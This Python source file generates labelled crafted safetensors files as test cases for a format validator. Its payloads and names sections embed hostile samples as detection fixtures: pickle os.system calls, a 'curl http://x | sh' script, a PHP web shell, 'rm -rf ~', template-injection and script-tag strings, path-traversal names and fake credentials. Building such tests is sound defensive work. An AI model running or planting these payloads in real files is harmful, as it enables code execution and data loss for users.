"""Crafted safetensors files and what the specification says of each of them.

`answer` is one of

- `valid`: by the specification and without anything to say at medium or above;
- `suspicious`: valid, and yet a finding of at least medium;
- `noted`: valid, and there has to be a finding, of whatever severity (honest files have this now and then);
- `invalid`: not a safetensors file by the specification.

What the specification (https://huggingface.co/docs/safetensors, section Format, and the README of the reference) says is
in the note of each case that is not valid.
"""

import json
import random
import struct
from dataclasses import dataclass, field

CASES = []
# Bits of each dtype of safetensors 0.8, in the order of its enumeration.
DTYPES = {
    "BOOL": 8, "F4": 4, "F6_E2M3": 6, "F6_E3M2": 6, "U8": 8, "I8": 8, "F8_E5M2": 8, "F8_E4M3": 8, "F8_E8M0": 8,
    "F8_E4M3FNUZ": 8, "F8_E5M2FNUZ": 8, "I16": 16, "U16": 16, "F16": 16, "BF16": 16, "I32": 32, "U32": 32, "F32": 32,
    "C64": 64, "F64": 64, "I64": 64, "U64": 64,
}  # fmt: skip


@dataclass
class Case:
    name: str
    answer: str
    data: bytes
    note: str = ""
    tags: tuple = field(default=())


def add(name, answer, data, note="", *tags):
    assert all(case.name != name for case in CASES), name
    CASES.append(Case(name, answer, data, note, tags))


def pack(header, data=b"", pad=b" ", size=None, to=8):
    """A file of a header, as an object or as JSON text, and the data behind it."""
    text = header if isinstance(header, bytes) else (header if isinstance(header, str) else json.dumps(header, ensure_ascii=False)).encode()
    text += pad * (-len(text) % to) if pad else b""
    return struct.pack("<Q", len(text) if size is None else size) + text + data


def entry(dtype, shape, begin, end, **more):
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]} | more


def floats(count, seed=1):
    """Bytes of honest weights: normally distributed, none of them special."""
    source = random.Random(seed)
    return struct.pack(f"<{count}f", *(source.gauss(0, 0.02) for _ in range(count)))


def one(name="weight", dtype="F32", shape=(3, 4), data=None, metadata=None, **more):
    """One tensor that fills the file."""
    count = 1
    for size in shape:
        count *= size
    data = data if data is not None else (floats(count) if dtype == "F32" else honest(dtype, count))
    header = ({"__metadata__": metadata} if metadata is not None else {}) | {name: entry(dtype, list(shape), 0, len(data), **more)}
    return pack(header, data)


def honest(dtype, count):
    """Data of any dtype that has no special value in it."""
    source = random.Random(f"{dtype}{count}")
    size = count * DTYPES[dtype] // 8
    if dtype == "BOOL":
        return bytes(source.randrange(2) for _ in range(size))
    form = {"F16": "e", "F32": "f", "F64": "d", "C64": "ff"}.get(dtype)
    if form:
        return b"".join(struct.pack("<" + form, *(source.gauss(0, 0.5) for _ in form)) for _ in range(count))
    if dtype == "BF16":
        return b"".join(struct.pack("<f", source.gauss(0, 0.5))[2:] for _ in range(count))
    return bytes(source.randrange(32, 96) for _ in range(size))


W = entry("F32", [3, 4], 0, 48)
D = floats(12)
TEXT = json.dumps({"w": W})


def valid():
    for dtype in DTYPES:
        add(f"valid-dtype-{dtype}", "valid", one(dtype=dtype, shape=(2, 8)))
        if DTYPES[dtype] >= 8:
            add(f"valid-scalar-{dtype}", "valid", one(dtype=dtype, shape=()))
        add(f"valid-empty-{dtype}", "valid", one(dtype=dtype, shape=(3, 0), data=b""))
    add("valid-no-tensors", "valid", pack({}))
    add("valid-no-tensors-no-padding", "valid", pack({}, pad=b""))
    add("valid-only-metadata", "valid", pack({"__metadata__": {"format": "pt"}}))
    add("valid-metadata-empty", "valid", one(metadata={}))
    add("valid-metadata-many", "valid", one(metadata={f"key{i}": "value" for i in range(50)}))
    add("valid-metadata-unicode", "valid", one(metadata={"author": "Ünïcode 作者"}))
    add("valid-metadata-last", "valid", pack({"w": W, "__metadata__": {"format": "pt"}}, D))
    for count in range(1, 8):
        text = TEXT + " " * ((-len(TEXT) % 8) + count)
        add(f"valid-padding-{count}", "valid", pack(text, D, pad=b""), "any number of spaces behind the object")
    add("valid-whitespace", "valid", pack(json.dumps({"w": W}, indent=2), D), "JSON may have whitespace inside")
    add("valid-order-of-entries", "valid", pack({"b": entry("F32", [2], 8, 16), "a": entry("F32", [2], 0, 8)}, floats(4)))
    add("valid-order-of-keys", "valid", pack({"w": {"data_offsets": [0, 48], "shape": [3, 4], "dtype": "F32"}}, D))
    add("valid-escaped-name", "valid", pack(TEXT.replace('"w"', '"\\u0077"'), D), "an escape is another way to write the same name")
    add("valid-escaped-dtype", "valid", pack(TEXT.replace("F32", "\\u004632"), D))
    add("valid-name-unicode", "valid", one(name="重み"))
    add("valid-name-surrogate-pair", "valid", pack('{"\\ud83d\\ude42": %s}' % json.dumps(W), D))
    add("valid-names-of-a-model", "valid", pack(model_header(), floats(5 * 24, 2)))
    add("valid-rank-8", "valid", one(shape=(1, 2, 1, 2, 1, 3, 1, 1)))
    add("valid-empty-ones-share-an-offset", "valid", pack({n: entry("F32", [0], 0, 0) for n in "abc"}))
    add("valid-empty-at-the-end", "valid", pack({"w": W, "e": entry("I8", [0, 7], 48, 48)}, D))
    add("valid-empty-between", "valid", pack({"a": entry("F32", [2], 0, 8), "e": entry("F64", [0], 8, 8), "b": entry("F32", [2], 8, 16)}, floats(4)))
    add("valid-zero-times-huge", "valid", pack({"e": entry("F32", [0, 2**20, 2**20], 0, 0)}), "no element, whatever the other sizes")
    add("valid-thousand", "valid", pack({f"l.{i}.w": entry("F32", [4], 16 * i, 16 * i + 16) for i in range(1000)}, floats(4000, 3)))
    add("valid-zeros-and-ones", "valid", pack({"norm.weight": entry("F32", [8], 0, 32), "norm.bias": entry("F32", [8], 32, 64), "w": entry("F32", [12], 64, 112)},
        struct.pack("<16f", *[1.0] * 8, *[0.0] * 8) + D), "a new layer norm has a weight of ones and a bias of zeros")  # fmt: skip
    add("valid-f4-two-per-byte", "valid", one(dtype="F4", shape=(4, 3), data=b"\x12\x34\x56\x71\x23\x45"))
    add("valid-f6-four-in-three-bytes", "valid", one(dtype="F6_E3M2", shape=(4,), data=b"\x11\x22\x33"))
    add("valid-number-as-text-in-metadata", "valid", one(metadata={"epoch": "3", "loss": "0.25"}))
    add("valid-metadata-training", "valid", one(metadata={"ss_tag_frequency": json.dumps({"cat": {f"tag {i}": i for i in range(200)}}), "modelspec.title": "Cats"}),
        "trainers write a few kilobytes of JSON into it")  # fmt: skip
    add("valid-integers", "valid", pack({"position_ids": entry("I64", [1, 4], 0, 32), "w": entry("F32", [12], 32, 80)}, struct.pack("<4q", 0, 1, 2, 3) + D))


def model_header():
    names = ["model.embed_tokens.weight", "model.layers.0.self_attn.q_proj.weight", "model.layers.0.mlp.up_proj.weight", "model.norm.weight", "lm_head.weight"]
    return {name: entry("F32", [6, 4], 96 * i, 96 * i + 96) for i, name in enumerate(names)} | {"__metadata__": {"format": "pt"}}


def broken_start():
    good = pack(TEXT, D)
    for cut in (0, 1, 4, 7, 8, 9, 8 + len(TEXT) // 2, 8 + len(TEXT) - 1):
        add(f"invalid-cut-{cut}", "invalid", good[:cut], "8 bytes of length and then that many of header")
    header = struct.unpack("<Q", good[:8])[0]
    for cut in (8 + header, 8 + header + 1, len(good) - 1):
        add(f"invalid-cut-data-{cut}", "invalid", good[:cut], "the data of a tensor is missing")
    for label, size in (("zero", 0), ("one", 1), ("short", header - 1), ("long", header + 1), ("cap", 100_000_000), ("cap-and-one", 100_000_001),
                        ("2-31", 2**31), ("2-32", 2**32), ("2-63", 2**63), ("largest", 2**64 - 1), ("wraps", 2**64 - 8)):  # fmt: skip
        add(f"invalid-length-{label}", "invalid", pack(TEXT, D, size=size), "the length of the header is that of something else")
    add("invalid-length-big-endian", "invalid", struct.pack(">Q", header) + good[8:])
    add("invalid-trailing-byte", "invalid", good + b"\0", "the byte buffer has no holes, and nothing behind it")
    add("invalid-trailing-newline", "invalid", good + b"\n")
    add("invalid-second-file", "invalid", good + good)
    add("invalid-prefix", "invalid", b"\0" + good)
    for label, text in (("space", b" "), ("newline", b"\n"), ("tab", b"\t"), ("bom", b"\xef\xbb\xbf")):
        add(f"invalid-first-byte-{label}", "invalid", pack(text + TEXT.encode(), D), "the header must begin with `{`", "strict")
    for label, text in (("tab", b"\t"), ("newline", b"\n"), ("return", b"\r"), ("nul", b"\0"), ("letter", b"x"), ("object", b"{}"), ("comma", b",")):
        add(f"invalid-padding-{label}", "invalid", pack(TEXT.encode() + text, D), "the header may be padded with 0x20 and nothing else", "strict")
    add("invalid-space-then-tab", "invalid", pack(TEXT.encode() + b"  \t ", D), "", "strict")


def broken_json():
    cases = {
        "array": "[]", "string": '"a"', "number": "3", "null": "null", "true": "true", "empty": "", "spaces": "    ", "unclosed": TEXT[:-1],
        "closed-twice": TEXT + "}", "two-objects": "{}{}", "trailing-comma": TEXT[:-1] + ",}", "single-quotes": TEXT.replace('"', "'"),
        "comment": TEXT[:-1] + "/* */}", "line-comment": TEXT[:-1] + "//\n}", "no-colon": '{"w" %s}' % json.dumps(W), "key-is-number": '{1: %s}' % json.dumps(W),
        "nan": TEXT.replace("48", "NaN"), "raw-newline-in-name": TEXT.replace('"w"', '"w\n"'), "raw-nul-in-name": TEXT.replace('"w"', '"w\0"'),
        "lone-surrogate": TEXT.replace('"w"', '"\\ud800"'), "surrogates-reversed": TEXT.replace('"w"', '"\\udc00\\ud800"'),
        "bad-escape": TEXT.replace('"w"', '"\\x41"'), "short-escape": TEXT.replace('"w"', '"\\u41"'), "plus": TEXT.replace("48", "+48"),
        "leading-zero": TEXT.replace("48", "048"), "hex": TEXT.replace("48", "0x30"), "deep-arrays": '{"w": ' + "[" * 2000 + "]" * 2000 + "}",
        "deep-objects": '{"a":' * 2000 + "1" + "}" * 2000, "vertical-tab": "{\v" + TEXT[1:], "no-break-space": "{\u00a0" + TEXT[1:],
    }  # fmt: skip
    for label, text in cases.items():
        add(f"invalid-json-{label}", "invalid", pack(text, D), "the header is a JSON object")
    raw = TEXT.encode()
    for label, data in (("overlong", b"\xc0\xaf"), ("surrogate", b"\xed\xa0\x80"), ("cut", b"\xe2\x82"), ("continuation", b"\x80"), ("beyond", b"\xf4\x90\x80\x80"), ("latin-1", b"\xe9"), ("ff", b"\xff")):
        add(f"invalid-utf8-{label}", "invalid", pack(raw.replace(b'"w"', b'"' + data + b'"'), D), "JSON is UTF-8")
    add("invalid-utf8-in-metadata", "invalid", pack(b'{"__metadata__":{"a":"\xff"},' + raw[1:], D))
    add("invalid-utf16", "invalid", pack(TEXT.encode("utf-16-le"), D))


def duplicates():
    w = json.dumps(W)
    other = json.dumps(entry("U8", [48], 0, 48))
    cases = {
        "name": f'{{"w": {w}, "w": {w}}}', "name-other": f'{{"w": {w}, "w": {other}}}', "name-escaped": f'{{"w": {w}, "\\u0077": {other}}}',
        "name-first-out-of-range": '{"w": %s, "w": %s}' % (json.dumps(entry("F32", [3, 4], 1000, 1048)), w),
        "metadata": f'{{"__metadata__": {{}}, "__metadata__": {{}}, "w": {w}}}', "metadata-escaped": f'{{"__metadata__": {{}}, "\\u005f_metadata__": {{}}, "w": {w}}}',
        "metadata-key": f'{{"__metadata__": {{"a": "1", "a": "2"}}, "w": {w}}}', "metadata-key-escaped": f'{{"__metadata__": {{"a": "1", "\\u0061": "2"}}, "w": {w}}}',
        "metadata-key-same": f'{{"__metadata__": {{"a": "1", "a": "1"}}, "w": {w}}}',
        "dtype": '{"w": {"dtype": "F32", "dtype": "F32", "shape": [3,4], "data_offsets": [0,48]}}',
        "shape": '{"w": {"dtype": "F32", "shape": [3,4], "shape": [4,3], "data_offsets": [0,48]}}',
        "offsets": '{"w": {"dtype": "F32", "shape": [3,4], "data_offsets": [0,48], "data_offsets": [0,48]}}',
        "shape-escaped": '{"w": {"dtype": "F32", "shape": [3,4], "s\\u0068ape": [4,3], "data_offsets": [0,48]}}',
    }  # fmt: skip
    for label, text in cases.items():
        add(f"invalid-duplicate-{label}", "invalid", pack(text, D), "duplicate keys are not allowed", "strict")


def entries():
    def put(label, value, note="", *tags):
        add(f"invalid-entry-{label}", "invalid", pack({"w": value}, D), note, *tags)

    for missing in ("dtype", "shape", "data_offsets"):
        put(f"without-{missing}", {k: v for k, v in W.items() if k != missing})
    for label, value in (("null", None), ("string", "F32"), ("number", 1), ("empty", {}), ("true", True)):
        put(label, value, "an entry is an object of three fields")
    put("array-form", ["F32", [3, 4], [0, 48]], "the reference takes an array for an object", "strict")
    put("unknown-field", W | {"strides": [4, 1]}, "three fields and no other", "strict")
    put("unknown-payload", W | {"payload": "x" * 1000}, "", "strict")
    put("field-by-case", W | {"Shape": [3, 4]}, "", "strict")
    put("nested-entry", W | {"inner": {"w": W}}, "", "strict")
    for label, value in (("object", {"F32": None}), ("null", None), ("number", 32), ("lower", "f32"), ("unknown", "F128"), ("empty", ""), ("space", "F32 "),
                         ("torch", "float32"), ("bool-lower", "bool"), ("array", ["F32"]), ("numpy", "<f4"), ("bfloat", "BFLOAT16"), ("f8", "F8"), ("c128", "C128")):  # fmt: skip
        put(f"dtype-{label}", W | {"dtype": value}, "the dtype is one of a list")
    for label, value in (("negative", [-3, -4]), ("minus-zero", None), ("float", [3.0, 4]), ("exponent", None), ("string", ["3", 4]), ("null", None), ("number", 12), ("object", {"0": 3}),
                         ("nested", [[3, 4]]), ("true", [True, 12]), ("nulls", [None, 12]), ("beyond-u64", [2**64]), ("2-63", [2**63]), ("overflow", [2**32, 2**32]),
                         ("overflow-then-zero", [2**40, 2**40, 0]), ("overflow-bits", [2**61, 2]), ("too-small", [3, 3]), ("too-large", [3, 5]), ("empty", [])):  # fmt: skip
        if label == "minus-zero":
            add("invalid-entry-shape-minus-zero", "invalid", pack('{"w": {"dtype": "F32", "shape": [-0], "data_offsets": [0, 0]}}'))
        elif label == "exponent":
            add("invalid-entry-shape-exponent", "invalid", pack('{"w": {"dtype": "F32", "shape": [12e0], "data_offsets": [0, 48]}}', D))
        else:
            put(f"shape-{label}", W | {"shape": value}, "a list of unsigned integers whose product, times the dtype, is the size")
    add("invalid-entry-zero-then-overflow", "invalid", pack({"e": entry("F32", [0, 2**40, 2**40], 0, 0)}), "overflow is one whatever the order of the factors", "strict")
    add("invalid-entry-rank-100000", "invalid", pack({"w": entry("F32", [1] * 100_000, 0, 4)}, floats(1)), "a rank beyond every reader's", "strict")
    for label, value in (("null", None), ("one", [0]), ("three", [0, 48, 48]), ("empty", []), ("object", {"0": 0, "1": 48}), ("strings", ["0", "48"]), ("floats", [0.0, 48.0]),
                         ("negative", [-48, 0]), ("reversed", [48, 0]), ("beyond-file", [0, 49]), ("far-beyond", [2**40, 2**40 + 48]), ("2-63", [2**63, 2**63 + 48]), ("largest", [2**64 - 49, 2**64 - 1]),
                         ("beyond-u64", [0, 2**64]), ("number", 48), ("nested", [[0, 48]])):  # fmt: skip
        put(f"offsets-{label}", W | {"data_offsets": value}, "begin and end, in the buffer")
    for dtype, shape, size in (("F4", [1], 1), ("F4", [3], 2), ("F4", [], 1), ("F6_E2M3", [2], 2), ("F6_E3M2", [3], 3)):
        add(f"invalid-entry-subbyte-{dtype}-{len(shape) and shape[0]}", "invalid", pack({"w": entry(dtype, shape, 0, size)}, b"\x11" * size), "a tensor ends at a byte")
    for dtype, bits in DTYPES.items():
        add(f"invalid-entry-size-{dtype}", "invalid", pack({"w": entry(dtype, [16], 0, 2 * bits + 1)}, b"\x01" * (2 * bits + 1)), "a byte too many")


def layout():
    def put(label, header, data, note="", *tags):
        add(f"invalid-layout-{label}", "invalid", pack(header, data), note, *tags)

    two = {"a": entry("F32", [2], 0, 8), "b": entry("F32", [2], 8, 16)}
    d = floats(8)
    put("hole-at-start", {"w": entry("F32", [2], 8, 16)}, d[:16], "the buffer is covered without holes")
    put("hole-between", two | {"b": entry("F32", [2], 12, 20)}, d[:20])
    put("hole-of-one-byte", two | {"b": entry("F32", [2], 9, 17)}, d[:17])
    put("hole-at-end", two, d[:20])
    put("overlap", two | {"b": entry("F32", [2], 4, 12)}, d[:12])
    put("alias", two | {"b": entry("F32", [2], 0, 8)}, d[:8], "two names of the same bytes")
    put("alias-and-hole", two | {"b": entry("F32", [2], 0, 8)}, d[:16])
    put("contained", {"a": entry("F32", [4], 0, 16), "b": entry("F32", [2], 4, 12)}, d[:16])
    put("data-without-tensors", {}, d[:8])
    put("data-and-metadata-only", {"__metadata__": {"a": "b"}}, d[:8])
    put("empty-inside-another", two | {"e": entry("F32", [0], 4, 4)}, d[:16], "an empty tensor inside the bytes of another")
    put("empty-beyond", two | {"e": entry("F32", [0], 17, 17)}, d[:16])
    put("empty-far-beyond", {"e": entry("F32", [0], 2**63, 2**63)}, b"")
    put("scalar-of-nothing", {"w": entry("F32", [], 0, 0)}, b"")
    put("many-aliases", {f"t{i}": entry("F32", [2], 0, 8) for i in range(1000)}, d[:8])
    put("cyclic-order", {"a": entry("F32", [2], 8, 16), "b": entry("F32", [2], 16, 24), "c": entry("F32", [2], 24, 32)}, d[:32])


def metadata():
    def put(label, value, *tags):
        add(f"invalid-metadata-{label}", "invalid", pack({"__metadata__": value, "w": W}, D), "a map of strings to strings", *tags)

    put("null", None, "strict")
    for label, value in (("array", []), ("string", "x"), ("number", 1), ("true", True), ("number-inside", {"a": 1}), ("null-inside", {"a": None}),
                         ("object-inside", {"a": {}}), ("array-inside", {"a": []}), ("true-inside", {"a": True}), ("entry", W)):  # fmt: skip
        put(label, value)


def names():
    def put(label, name, answer="suspicious"):
        add(f"{answer}-name-{label}", answer, one(name=name), "a name that shows as another one or as none, or that is a path")

    for label, name in (("nul", "a\0b"), ("escape", "a\x1b[31mb"), ("newline", "a\nb"), ("return", "a\rb"), ("backspace", "a\bb"), ("delete", "a\x7fb"), ("c1", "a\x85b"), ("bidi-override", "a\u202egnp.b"),
                        ("bidi-isolate", "a\u2066b"), ("zero-width-space", "a\u200bb"), ("zero-width-joiner", "we\u200dight"), ("bom", "a\ufeffb"), ("word-joiner", "a\u2060b"), ("soft-hyphen", "wei\u00adght"),
                        ("homoglyph", "w\u0435ight"), ("homoglyph-greek", "w\u03bfrd.weight"), ("fullwidth", "\uff57eight"), ("empty", ""), ("very-long", "x" * 100_000), ("parent", "../../etc/passwd"), ("absolute", "/etc/passwd"),
                        ("windows", "C:\\Windows\\x"), ("backslashes", "..\\..\\x"), ("dunder", "__class__"), ("dunder-inside", "a.__globals__.b"), ("dunder-init", "__init__"), ("line-separator", "a\u2028b"), ("tag", "a\U000e0041b"), ("script", "<script>alert(1)</script>"),
                        ("private-use", "a\ue000b"), ("noncharacter", "a\uffffb"), ("only-space", " "), ("trailing-space", "weight ")):  # fmt: skip
        put(label, name, "noted" if label in ("script", "private-use", "noncharacter", "only-space", "trailing-space", "fullwidth") else "suspicious")
    for label, pair in (("case", ("Weight", "weight")), ("normal-form", ("\u00e9", "e\u0301")), ("homoglyph", ("weight", "w\u0435ight")), ("zero-width", ("weight", "wei\u200bght")), ("compatible", ("\ufb01", "fi"))):
        header = {name: entry("F32", [2], 8 * i, 8 * i + 8) for i, name in enumerate(pair)}
        answer = "noted" if label in ("compatible",) else "suspicious"
        add(f"{answer}-names-{label}-twins", answer, pack(header, floats(4)), "two names that look the same")
    for label, name in (("dots", "a.b.c"), ("dashes", "down-blocks_0"), ("slash", "encoder/layer_0/kernel"), ("colon", "dense/kernel:0"), ("cyrillic", "вес.слоя"), ("brackets", "layers[0].weight"), ("spaces", "conv 1.weight"),
                        ("emoji", "🙂.weight"), ("greek-alone", "μ"), ("long", ".".join(["module"] * 30)), ("accent", "poids_entraînés"), ("arabic", "وزن"), ("devanagari", "वज़न"), ("korean", "가중치")):  # fmt: skip
        put(label, name, "valid")
    add("valid-names-of-both-cases", "valid", pack({n: entry("F32", [2], 8 * i, 8 * i + 8) for i, n in enumerate(("A", "b", "A_log", "D"))}, floats(8)))


def values():
    def put(label, answer, dtype, data, count):
        add(f"{answer}-value-{label}", answer, pack({"w": entry(dtype, [count], 0, len(data)), "z": entry("F32", [12], len(data), len(data) + 48)}, data + D), "values that are seldom meant")

    for dtype, form, nan, inf in (("F32", "f", 0, 0), ("F64", "d", 0, 0), ("F16", "e", 0, 0)):
        good = [random.Random(5).gauss(0, 0.5) for _ in range(63)]
        for label, value in (("nan", float("nan")), ("inf", float("inf")), ("minus-inf", float("-inf"))):
            put(f"{label}-{dtype}", "suspicious" if label == "nan" else "noted", dtype, struct.pack(f"<64{form}", *good, value), 64)
    bf16 = honest("BF16", 63)
    put("nan-BF16", "suspicious", "BF16", bf16 + b"\xc0\x7f", 64)
    put("inf-BF16", "noted", "BF16", bf16 + b"\x80\x7f", 64)
    put("nan-F8_E4M3", "suspicious", "F8_E4M3", honest("F8_E4M3", 63) + b"\x7f", 64)
    put("nan-F8_E5M2", "suspicious", "F8_E5M2", honest("F8_E5M2", 63) + b"\x7e", 64)
    put("inf-F8_E5M2", "noted", "F8_E5M2", honest("F8_E5M2", 63) + b"\x7c", 64)
    put("nan-F8_E4M3FNUZ", "suspicious", "F8_E4M3FNUZ", honest("F8_E4M3FNUZ", 63) + b"\x80", 64)
    put("nan-F8_E8M0", "suspicious", "F8_E8M0", honest("F8_E8M0", 63) + b"\xff", 64)
    put("nan-C64", "suspicious", "C64", honest("C64", 63) + struct.pack("<ff", 0.5, float("nan")), 64)
    put("nan-all", "suspicious", "F32", struct.pack("<64f", *[float("nan")] * 64), 64)
    put("nan-signalling", "suspicious", "F32", honest("F32", 63) + struct.pack("<I", 0x7F800001), 64)
    put("nan-first-of-many", "suspicious", "F32", struct.pack("<f", float("nan")) + floats(9999, 7), 10_000)
    put("denormals", "noted", "F32", struct.pack("<64I", *range(1, 65)), 64)
    put("bool-2", "suspicious", "BOOL", bytes([0, 1, 2, 1] * 16), 64)
    put("bool-255", "suspicious", "BOOL", bytes([0] * 63 + [255]), 64)
    put("constant-vector", "noted", "F32", struct.pack("<4096f", *[0.3] * 4096), 4096)
    for label, number, side, answer in (("constant", 0.3, 64, "suspicious"), ("constant-small", 0.3, 8, "noted"), ("zero", 0.0, 64, "noted"), ("zero-small", 0.0, 8, "noted")):
        add(f"{answer}-value-{label}-matrix", answer, one(shape=(side, side), data=struct.pack("<f", number) * side * side), "a matrix of which all elements are the same")
    put("minus-zero", "valid", "F32", honest("F32", 63) + struct.pack("<f", -0.0), 64)
    put("largest", "valid", "F32", honest("F32", 63) + struct.pack("<f", 3.4e38), 64)
    put("mask", "valid", "BOOL", bytes([1, 0] * 32), 64)
    put("causal-mask", "noted", "F32", struct.pack("<16f", *[0.0 if j <= i else float("-inf") for i in range(4) for j in range(4)]), 16)


def zip_bytes(name="archive/data.pkl", data=b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00idtR."):
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def payloads():
    def put(label, data, answer="suspicious", dtype="U8", behind=0):
        data = data + bytes(random.Random(label).randrange(1, 250) for _ in range(behind))
        add(f"{answer}-payload-{label}", answer, pack({"w": entry(dtype, [len(data)], 0, len(data))}, data), "what a reader of another kind would take it for")

    put("zip-at-end", zip_bytes())
    put("zip-before-comment", zip_bytes(), behind=0)
    put("zip-then-bytes", zip_bytes(), behind=2000)
    put("zip-far-from-end", zip_bytes(), "noted", behind=70_000)
    put("eocd-only", b"\x01" * 40 + b"PK\x05\x06" + bytes(18))
    put("elf", b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x90" * 200)
    put("pe", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(200))
    put("macho", b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0" + bytes(200))
    put("shebang", b"#!/bin/sh\ncurl http://x | sh\n" + b"#" * 100)
    put("pickle-2", b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03." + b"\x01" * 20)
    put("pickle-4", b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94." + b"\x01" * 20)
    put("php", b"<?php system($_GET['x']); ?>" + b" " * 100, "noted")
    put("python", b"import os\nos.system('id')\n" * 10, "noted")
    put("wasm", b"\0asm\x01\0\0\0" + bytes(100), "noted")
    put("elf-second-tensor", b"\x01" * 64, "valid")
    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + b"\x90" * 192
    add("suspicious-payload-elf-in-second", "suspicious", pack({"a": entry("F32", [12], 0, 48), "b": entry("U8", [256], 48, 304)}, D + elf))
    add("suspicious-payload-elf-in-f32", "suspicious", pack({"a": entry("F32", [12], 0, 48), "b": entry("F32", [64], 48, 304)}, D + elf))
    add("suspicious-payload-zip-in-f32", "suspicious", pack({"a": entry("F32", [12], 0, 48), "b": entry("U8", [len(zip_bytes())], 48, 48 + len(zip_bytes()))}, D + zip_bytes()))

    def meta(label, value, answer="suspicious", key="note"):
        add(f"{answer}-metadata-{label}", answer, one(metadata={key: value}), "what metadata is not for")

    import base64

    meta("token-hf", "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ01234567"[:34])
    meta("token-github", "ghp_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789"[:36])
    meta("token-aws", "AKIA" + "QZ7XWERTYPLKMN42")
    key = base64.b64encode(random.Random(3).randbytes(1190)).decode()
    key = "\n".join(key[i : i + 64] for i in range(0, len(key), 64))
    meta("private-key", f"-----BEGIN {'RSA PRIVATE KEY'}-----\n{key}\n-----END {'RSA PRIVATE KEY'}-----")
    meta("megabyte", "x" * 1_000_000)
    meta("base64-400-kB", base64.b64encode(random.Random(1).randbytes(300_000)).decode(), "noted")
    meta("template", "{{ ''.__class__.__mro__[1].__subclasses__() }}", key="chat_template")
    meta("template-plain", "{% for m in messages %}{{ m.content }}{% endfor %}", "noted", key="chat_template")
    meta("pickle-base64", base64.b64encode(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94." * 2).decode())
    meta("elf-base64", base64.b64encode(elf).decode())
    meta("python", "__import__('os').system('id')")
    meta("shell", "#!/bin/sh\nrm -rf ~", "suspicious")
    meta("html", "<script>fetch('http://x')</script>", "noted")
    meta("escape", "\x1b]0;x\x07", "suspicious")
    meta("bidi", "a\u202eb", "suspicious")
    meta("url", "https://huggingface.co/org/model", "valid")
    meta("hash", "0x" + "ab" * 32, "valid", key="sshs_model_hash")
    meta("date", "2024-05-01T12:00:00", "valid", key="modelspec.date")
    meta("thumbnail", "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.Random(2).randbytes(6000)).decode(), "valid", key="modelspec.thumbnail")
    add("suspicious-padding-megabyte", "suspicious", pack(TEXT + " " * 1_000_000, D), "a megabyte of spaces")
    add("suspicious-padding-64k", "noted", pack(TEXT + " " * 65_536, D))
    add("noted-alignment", "noted", pack({"a": entry("U8", [3], 0, 3), "b": entry("F32", [2], 3, 11)}, b"\x01\x02\x03" + floats(2)), "the data of a tensor is not aligned to its dtype")
    add("noted-header-not-multiple-of-8", "valid", pack(TEXT + " " * (3 - len(TEXT) % 8), D, pad=b""))


for make in (valid, broken_start, broken_json, duplicates, entries, layout, metadata, names, values, payloads):
    make()
